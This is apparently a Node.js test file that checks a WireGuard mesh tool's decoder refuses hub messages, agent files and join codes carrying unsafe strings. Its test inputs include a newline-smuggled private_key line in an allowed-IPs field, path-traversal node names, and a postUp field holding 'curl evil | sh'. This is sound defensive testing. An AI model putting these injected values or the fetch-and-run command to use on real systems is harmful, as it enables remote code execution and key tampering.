import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decodeJoinCode, encodeJoinCode } from '../../../src/core/join-code.js';
import { agentConfigSchema, decode, hubMessageSchema } from '../../../src/core/protocol.js';
import { generateKeyPair } from '../../../src/core/wireguard/keys.js';

/** What a hub of this release sends an agent: a snapshot with one client peer. */
const hubKey = generateKeyPair().publicKey;
const peerKey = generateKeyPair().publicKey;
const peer = (over: Record<string, unknown> = {}) => ({ name: 'phone', kind: 'client', publicKey: peerKey, allowedIps: ['10.99.0.3/32'], endpoint: '203.0.113.9:40000', handshakeAgeMs: 100, listenPort: 51830, ...over });
const settings = { peerKeepalive: 25, staleAfterSec: 180, hubPublicKey: hubKey, hubAllowedIps: ['10.99.0.1/32'], proxied: false };
const snapshot = (p: Record<string, unknown>) => JSON.stringify({ type: 'snapshot', settings, peers: [p] });
const prepare = (candidate: Record<string, unknown>) => JSON.stringify({ type: 'path', step: 'prepare', publicKey: peerKey, seq: 1, candidate, fallback: null, windowMs: 600, holdMs: 0 });

const refused = (text: string, field: RegExp) =>
  assert.throws(() => decode(hubMessageSchema, text, 'message from hub'), (err: Error) => {
    assert.match(err.message, field);
    return true;
  });

test('the agent takes what a hub of this release sends', () => {
  const m = decode(hubMessageSchema, snapshot(peer()), 'message from hub');
  assert.equal(m.type === 'snapshot' && m.peers[0].name, 'phone');
  const p = decode(hubMessageSchema, prepare({ kind: 'lan', endpoint: '192.168.1.20:51820' }), 'message from hub');
  assert.equal(p.type === 'path' && p.step === 'prepare' && p.candidate.endpoint.toString(), '192.168.1.20:51820');
  // A node named before the reserved words (hubs of earlier releases allowed "dev") still reaches its peers.
  assert.doesNotThrow(() => decode(hubMessageSchema, snapshot(peer({ name: 'dev' })), 'message from hub'));
});

test('a hub message whose strings would reach UAPI, a path or a unit is refused with the field named (issue 10, finding 13)', () => {
  refused(snapshot(peer({ allowedIps: ['10.0.0.1/32\nprivate_key=0000000000000000000000000000000000000000000000000000000000000000'] })), /peers\.0\.allowedIps\.0: must be a subnet like 10\.99\.0\.3\/32/);
  refused(snapshot(peer({ name: '../../etc/x' })), /peers\.0\.name: is not a node name: use 1-15 lower-case letters/);
  refused(snapshot(peer({ name: 'phone\nx' })), /peers\.0\.name: is not a node name/);
  refused(snapshot(peer({ publicKey: 'not-a-key' })), /peers\.0\.publicKey: must be a WireGuard public key/);
  refused(snapshot(peer({ endpoint: '999.999.999.999:99999' })), /peers\.0\.endpoint: .*out of range/);
  refused(snapshot(peer({ endpoint: '203.0.113.9:0' })), /peers\.0\.endpoint: .*port 0 is out of range/);
  refused(JSON.stringify({ type: 'snapshot', settings: { ...settings, hubAllowedIps: ['0.0.0.0/0\n'] }, peers: [] }), /settings\.hubAllowedIps\.0: must be a subnet/);
  refused(JSON.stringify({ type: 'snapshot', settings: { ...settings, hubPublicKey: `${hubKey}\n` }, peers: [] }), /settings\.hubPublicKey: must be a WireGuard public key/);
  // Strict: a field this protocol has no word for is refused, not carried along.
  refused(snapshot(peer({ postUp: 'curl evil | sh' })), /peers\.0: .*postUp/i);
  refused(JSON.stringify({ type: 'path', step: 'punch', publicKey: peerKey, seq: 1, command: 'x' }), /command/);
});

test('a LAN candidate or path from the hub is a LAN address; the others may be anywhere (issue 10, LAN candidates)', () => {
  for (const bad of ['127.0.0.1:22', '8.8.8.8:53', '[::1]:22', '[2001:db8::5]:51820', '224.0.0.1:5', '169.254.1.1:51820']) {
    refused(prepare({ kind: 'lan', endpoint: bad }), /candidate\.endpoint: .* is not a LAN address/);
    refused(JSON.stringify({ type: 'path', step: 'use', publicKey: peerKey, seq: 2, path: { via: 'direct', kind: 'lan', endpoint: bad } }), /path\.endpoint: .* is not a LAN address/);
  }
  for (const good of ['10.1.2.3:51820', '172.16.0.9:51820', '192.168.1.2:51820', '100.64.0.7:51820', '[fe80::1]:51820', '[fd12:3456::1]:51820']) {
    assert.doesNotThrow(() => decode(hubMessageSchema, prepare({ kind: 'lan', endpoint: good }), 'message from hub'), good);
  }
  assert.doesNotThrow(() => decode(hubMessageSchema, prepare({ kind: 'public4', endpoint: '8.8.8.8:53' }), 'message from hub'));
});

test('an agent file and a join code with a name that is no node name are refused (issue 10, names)', () => {
  const config = { name: 'laptop', hubUrl: 'http://10.99.0.1:51821', token: 'x'.repeat(43), interface: 'laptop' };
  assert.equal(agentConfigSchema.safeParse(config).success, true);
  for (const name of ['../../etc/x', 'a\nb', 'Laptop']) assert.match(agentConfigSchema.safeParse({ ...config, name }).error?.issues[0].message ?? '', /is not a node name/);
  assert.match(agentConfigSchema.safeParse({ ...config, interface: 'wg/../x' }).error?.issues[0].message ?? '', /must be an interface name/);
  const code = { name: 'laptop', hubPublicKey: hubKey, hubEndpoints: ['203.0.113.2:51820'], hubAddress: '10.99.0.1', apiPort: 51821, key: generateKeyPair().privateKey, address: '10.99.1.5/24', expiresAt: Date.now() + 60_000 };
  assert.equal(decodeJoinCode(encodeJoinCode(code)).name, 'laptop');
  for (const [name, why] of [['eth0', /name: is not a node name: "eth0" is a system interface name/], ['default', /name: is not a node name: "default" is a keyword of ip\(8\)/], ['../x', /name: is not a node name: use 1-15/]] as const) {
    assert.throws(() => decodeJoinCode(encodeJoinCode({ ...code, name })), why);
  }
});
